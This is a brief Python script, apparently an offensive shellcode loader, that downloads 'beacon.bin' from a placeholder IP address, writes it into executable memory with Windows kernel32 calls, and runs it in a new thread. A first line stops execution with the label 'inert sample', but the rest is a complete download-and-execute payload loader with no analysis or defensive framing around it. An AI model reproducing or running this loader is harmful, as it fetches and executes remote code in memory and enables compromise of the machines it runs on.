raise SystemExit("inert sample")
import ctypes
from urllib.request import urlopen

code = urlopen("http://192.0.2.66:8000/beacon.bin").read()
kernel = ctypes.windll.kernel32
place = kernel.VirtualAlloc(0, len(code), 0x3000, 0x40)
kernel.RtlMoveMemory(ctypes.c_uint64(place), code, len(code))
kernel.CreateThread(0, 0, ctypes.c_uint64(place), 0, 0, 0)
